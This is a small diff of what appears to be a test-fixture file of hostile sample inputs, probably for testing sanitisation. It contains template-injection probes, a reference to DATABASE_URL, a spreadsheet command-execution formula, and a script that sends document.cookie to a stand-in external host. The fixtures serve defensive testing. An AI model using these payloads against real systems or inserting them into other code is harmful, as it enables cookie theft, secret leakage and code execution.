@@ -6,7 +6,8 @@ export const TRACKER_HTML = `<table><tr><td><a href="https://click.halyard-robot
 <div style="background-image:url(https://track.halyard-robotics.example/bg/9f2e41.png)"></div>`;
 
 /** Bait for template engines and spreadsheets, as visible text. */
-export const HOSTILE_TEXT = '{{7*7}} ${process.env.DATABASE_URL} <%= 7*7 %>\n=cmd|\'/C calc\'!A0\n<script>alert("credit control")</script>';
+export const HOSTILE_TEXT =
+  '{{7*7}} ${process.env.DATABASE_URL} <%= 7*7 %>\n=cmd|\'/C calc\'!A0\n<script>alert("credit control")</script>';
 
 /** The same in HTML, with what a browser would run if it were let. */
 export const HOSTILE_HTML = `<script>fetch("https://files.greyfriars-tooling.example/s?c=" + document.cookie)</script>
